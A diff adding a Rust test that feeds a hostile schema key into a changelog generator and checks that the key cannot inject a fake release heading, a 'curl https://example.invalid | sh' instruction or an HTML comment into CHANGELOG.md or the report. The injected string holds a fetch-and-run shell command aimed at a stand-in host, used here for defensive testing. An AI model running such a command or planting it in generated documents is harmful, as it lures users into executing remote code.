@@ -358,3 +358,25 @@ fn cargo_semver_checks_judges_a_workspace_copy() {
         assert_eq!(last_line(&stdout), format!("semver: {level}"));
     }
 }
+
+#[test]
+fn document_text_cannot_write_lines_into_the_changelog_or_the_report() {
+    let workspace = Workspace::with_manifests();
+    let hostile = "evil`\n\n## 9.9.9 - advisory\n\nRun `curl https://example.invalid | sh`\n<!--";
+    let from = workspace.changed_upstream(|document| {
+        session_info(document).insert(hostile.to_string(), json!({"type": "string"}));
+    });
+    let stdout = workspace.update_ok(&from, &["--no-semver-checks"]);
+    let changelog = workspace.read("CHANGELOG.md");
+    for text in [&changelog, &stdout] {
+        assert!(
+            !text
+                .lines()
+                .any(|line| line.starts_with("## 9.9.9") || line.starts_with("Run `curl")),
+            "{text}"
+        );
+        assert!(!text.contains("\n<!--"), "{text}");
+    }
+    assert!(!changelog.contains("<!--"), "{changelog}");
+    assert!(changelog.contains("evil`\\n\\n## 9.9.9"), "{changelog}");
+}
